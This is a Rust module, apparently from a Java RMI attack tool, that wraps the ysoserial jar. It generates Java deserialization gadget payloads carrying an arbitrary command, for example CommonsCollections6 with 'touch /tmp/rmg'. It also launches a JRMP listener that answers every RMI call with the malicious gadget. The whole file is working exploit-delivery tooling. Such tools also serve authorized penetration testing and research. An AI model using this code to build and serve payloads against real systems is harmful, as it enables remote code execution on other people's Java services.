//! Payloads and listeners from an external ysoserial jar.
//!
//! ```no_run
//! use rmg::gadget::Ysoserial;
//!
//! # async fn run() -> Result<(), rmg::error::RmgError> {
//! let ysoserial = Ysoserial::new("java", "/opt/ysoserial.jar");
//! let payload = ysoserial.payload("CommonsCollections6", "touch /tmp/rmg").await?;
//! println!("{}", payload);
//! # Ok(())
//! # }
//! ```

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::{ExitStatus, Stdio};

use tokio::process::Command;
use tracing::{debug, info};

use crate::error::RmgError;
use crate::util::Payload;

const LISTENER_CLASS: &str = "ysoserial.exploit.JRMPListener";

pub struct Ysoserial {
    java: PathBuf,
    jar: PathBuf,
}

impl Ysoserial {
    pub fn new(java: impl Into<PathBuf>, jar: impl Into<PathBuf>) -> Self {
        Self {
            java: java.into(),
            jar: jar.into(),
        }
    }

    pub fn jar(&self) -> &Path {
        &self.jar
    }

    /// Runs `java -jar <jar> <gadget> <command>` and returns its stdout.
    pub async fn payload(&self, gadget: &str, command: &str) -> Result<Payload, RmgError> {
        let output = Command::new(&self.java)
            .arg("-jar")
            .arg(&self.jar)
            .arg(gadget)
            .arg(command)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true)
            .output()
            .await
            .map_err(|err| RmgError::Gadget(format!("failed to run {}: {}", self.java.display(), err)))?;

        check_status(output.status, &output.stderr)?;
        if output.stdout.is_empty() {
            return Err(RmgError::Gadget(format!("{} produced no output", gadget)));
        }
        let payload = Payload::new(output.stdout);
        debug!(gadget, size = payload.len(), "generated payload");
        Ok(payload)
    }

    fn listener_args(&self, port: u16, gadget: &str, command: &str) -> Vec<OsString> {
        vec![
            "-cp".into(),
            self.jar.clone().into_os_string(),
            LISTENER_CLASS.into(),
            port.to_string().into(),
            gadget.into(),
            command.into(),
        ]
    }

    /// Runs a JRMP listener that answers every call with the gadget. Returns
    /// when the listener exits.
    pub async fn start_listener(
        &self,
        host: &str,
        port: u16,
        gadget: &str,
        command: &str,
    ) -> Result<(), RmgError> {
        info!(host, port, gadget, "starting JRMP listener");
        let mut child = Command::new(&self.java)
            .arg(format!("-Djava.rmi.server.hostname={}", host))
            .args(self.listener_args(port, gadget, command))
            .stdin(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .map_err(|err| RmgError::Gadget(format!("failed to run {}: {}", self.java.display(), err)))?;
        let status = child.wait().await?;
        check_status(status, &[])
    }
}

fn check_status(status: ExitStatus, stderr: &[u8]) -> Result<(), RmgError> {
    if status.success() {
        return Ok(());
    }
    let stderr = String::from_utf8_lossy(stderr);
    let detail = stderr.lines().find(|line| !line.trim().is_empty()).unwrap_or("");
    Err(RmgError::Gadget(format!("ysoserial exited with {}: {}", status, detail.trim())))
}
